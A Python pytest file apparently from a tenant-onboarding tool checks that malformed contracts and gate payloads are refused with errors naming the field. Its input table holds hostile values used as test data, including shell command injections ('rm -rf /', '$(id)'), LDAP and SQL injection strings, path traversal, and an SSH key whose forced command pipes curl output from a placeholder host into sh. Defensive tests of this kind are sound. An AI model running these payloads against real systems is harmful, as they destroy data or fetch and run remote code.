"""Bad input table: malformed contracts and gate payloads each get a clear error naming the field, and write nothing.

A display name with U+2028 (LINE SEPARATOR, which splits ``sacctmgr`` output rows) is also a scenario of its own
(issue 26): ``tenantflow onboard`` refuses the contract naming ``display_name`` with the bad-input exit code, no run
starts and the world is as it was.
"""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path
from typing import Any

import pytest
import yaml
from temporalio.client import WorkflowUpdateFailedError
from temporalio.service import RPCError, RPCStatusCode

from tenantflow.lab.endpoints import LabEndpoints
from tenantflow.models.gates import ApprovePlan, GateAnswer
from tenantflow.models.tenant import TenantContract
from tenantflow.starter.client import RunAlreadyActive
from tenantflow.starter.contracts import ContractError, parse_contract
from tests.approvers import reviewer
from tests.chaos.conftest import Rig, small_tenant
from tests.chaos.kit import ROOT, STATS, comparable, compare_worlds, foreign_touched, world
from tests.integration.world import world_snapshot
from tests.labfixture import journal_writes, reset_journals
from tests.security.test_secrets_scan import cli
from tests.workflows.contract import EXAMPLES

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOsy1rAIiq4ryoQ4NeggdPKt8jjkGpiakSHAYtmHSX2L alice@laptop"
CONTRACT_CASES: list[tuple[str, str, Any, str]] = [
    ("slug uppercase", "slug", "Tenant-Foo", "slug"),
    ("slug injection", "slug", "foo; rm -rf /", "slug"),
    ("slug too long", "slug", "t" * 300, "slug"),
    ("slug wrong type", "slug", ["tenant-foo"], "slug"),
    ("slug empty", "slug", "", "slug"),
    ("gpus not multiple of node", "capacity.gpus", 63, "capacity"),
    ("gpus string", "capacity.gpus", "sixty-four", "capacity.gpus"),
    ("gpus negative", "capacity.gpus", -8, "capacity.gpus"),
    ("gpus oversized", "capacity.gpus", 10**12, "capacity.gpus"),
    ("unknown sku", "capacity.sku", "z9000-8x", "capacity.sku"),
    ("evict on release wrong type", "capacity.evict_on_release", {"yes": 1}, "capacity.evict_on_release"),
    ("term days zero", "capacity.term_days", 0, "capacity.term_days"),
    ("pool injection", "capacity.hardware_pool", "rack-a$(id)", "capacity.hardware_pool"),
    ("unknown top-level field", "surprise", True, "surprise"),
    ("unknown nested field", "capacity.colour", "blue", "capacity.colour"),
    ("username injection", "users.0.username", "alice;id", "users.0.username"),
    ("username uppercase", "users.0.username", "Alice", "users.0.username"),
    ("username LDAP injection", "users.0.username", "a*)(uid=*", "users.0.username"),
    ("name with shell metachars", "users.0.name", "Alice `reboot`", "users.0.name"),
    ("name with a line separator", "users.0.name", "Alice\u2028Smith", "users.0.name"),
    ("display name with a line separator", "display_name", "Acme\u2028Labs", "display_name"),
    ("display name with a next-line control", "display_name", "Acme\u0085Labs", "display_name"),
    ("email malformed", "users.0.email", "not-an-email", "users.0.email"),
    ("ssh key garbage", "users.0.ssh_keys", ["hello world"], "users.0.ssh_keys"),
    ("ssh key injected command", "users.0.ssh_keys", [f'command="curl evil|sh" {KEY}'], "users.0.ssh_keys"),
    ("ssh key with newline", "users.0.ssh_keys", [KEY + "\nssh-rsa AAAA evil"], "users.0.ssh_keys"),
    ("ssh key oversized", "users.0.ssh_keys", ["ssh-ed25519 " + "A" * 20_000], "users.0.ssh_keys"),
    ("no ssh keys", "users.0.ssh_keys", [], "users.0.ssh_keys"),
    ("users wrong type", "users", "alice", "users"),
    ("quota memory garbage", "kube_quota.requests_memory", "8 TB", "kube_quota.requests_memory"),
    ("pvc name injection", "storage.pvc_name", "../etc", "storage.pvc_name"),
    ("slurm cluster injection", "slurm.cluster", "prod'; DROP TABLE", "slurm.cluster"),
    ("max wall garbage", "slurm.normal_qos.max_wall", "forever", "slurm.normal_qos.max_wall"),
    ("fairshare string", "slurm.fairshare", "lots", "slurm.fairshare"),
    ("login replicas wrong type", "login.replicas", "two", "login.replicas"),
]


def mutated(path: str, value: Any) -> dict[str, Any]:
    data: dict[str, Any] = copy.deepcopy(yaml.safe_load((EXAMPLES / "tenant-foo.yaml").read_text()))
    *parents, last = path.split(".")
    node: Any = data
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node[part]
    node[last] = value
    return data


@pytest.mark.parametrize(("case", "path", "value", "field"), CONTRACT_CASES, ids=[c[0] for c in CONTRACT_CASES])
def test_malformed_contract_is_refused_naming_the_field(case: str, path: str, value: Any, field: str) -> None:
    with pytest.raises(ContractError) as refused:
        parse_contract(TenantContract, mutated(path, value), f"<{case}>")
    assert field in str(refused.value), str(refused.value)


async def test_bad_gate_payloads_are_refused_and_write_nothing(rig: Rig, chaos_lab: LabEndpoints) -> None:
    scenario = STATS.scenario("malformed gate payloads at the plan gate")
    api = rig.api
    contract = small_tenant(chaos_lab, "tenant-badin", ("badin-a", "badin-b"))
    reset_journals(chaos_lab)
    handle = await api.start_onboarding(contract)
    status = await api.wait_for_plan(handle.id)
    assert status.plan_hash
    with pytest.raises(RunAlreadyActive, match="tenant/tenant-badin is already in progress"):
        await api.start_onboarding(contract)
    refusals: list[tuple[str, Any, str]] = [
        ("approve_plan", ApprovePlan(plan_hash=status.plan_hash), "needs a verified approver"),  # no proof
        ("approve_plan", {"plan_hash": 42, "approver": ["x"]}, "plan_hash: Input should be a valid string"),
        ("approve_plan", {"plan_hash": 42, "approver": ["x"]}, "approver: Input should be a valid string"),
        (
            "approve_plan",
            {"plan_hash": status.plan_hash, "sneaky": True},
            "sneaky: unknown field; remove it or check the spelling",
        ),
        ("approve_plan", {"plan_hash": status.plan_hash * 1000}, "plan_hash: String should match pattern"),
        ("reject_plan", {"approver": "ops"}, "reason: Field required"),
        ("answer_gate", GateAnswer(), "answer"),  # a gate answer without its gate name
    ]
    for update, payload, message in refusals:
        with pytest.raises(WorkflowUpdateFailedError) as refused:
            await handle.execute_update(update, payload)
        assert message in str(refused.value.cause), (update, payload, refused.value.cause)
        STATS.runs_failed_as_expected += 1
    with pytest.raises(WorkflowUpdateFailedError, match="Workflow update failed") as stale:
        await reviewer(api).approve(handle.id, "0" * 16)
    assert "stale or unknown plan hash" in str(stale.value.cause)
    assert (await api.status(handle.id)).stage == "gate:approve_plan"
    await api.reject(handle.id, "bad input table")
    with pytest.raises(Exception, match=r"already completed|not open|not found"):
        await reviewer(api).approve(handle.id, status.plan_hash)
    assert sum(journal_writes(chaos_lab).values()) == 0, journal_writes(chaos_lab)
    scenario.outcome = "refused, nothing written"


async def test_a_display_name_with_a_line_separator_is_refused_before_any_run(
    rig: Rig, chaos_lab: LabEndpoints, tmp_path: Path
) -> None:
    scenario = STATS.scenario("display name with U+2028 refused at validation")
    data = {**mutated("display_name", "Acme\u2028Labs"), "slug": "tenant-ls"}
    path = tmp_path / "tenant-ls.json"
    path.write_text(json.dumps(data))
    start, before = world(chaos_lab), world_snapshot(chaos_lab)
    reset_journals(chaos_lab)
    env = {**os.environ, **{k: rig.worker.env[k] for k in ("TEMPORAL_ADDRESS", "TENANTFLOW_TASK_QUEUE")}}
    env["PYTHONPATH"] = str(ROOT)
    said = cli(env, "onboard", str(path))
    assert " -> 2\n" in said and "display_name" in said, said
    with pytest.raises(RPCError) as unknown:
        await rig.api.handle("tenant/tenant-ls").describe()
    assert unknown.value.status == RPCStatusCode.NOT_FOUND, "no run started"
    assert sum(journal_writes(chaos_lab).values()) == 0, journal_writes(chaos_lab)
    touched = foreign_touched(before, world_snapshot(chaos_lab), (), scenario)
    compare_worlds(start, world(chaos_lab), comparable, scenario=scenario)
    assert not touched, "\n".join(touched)
    STATS.runs_failed_as_expected += 1
    scenario.outcome = "refused naming display_name, no run, nothing written"
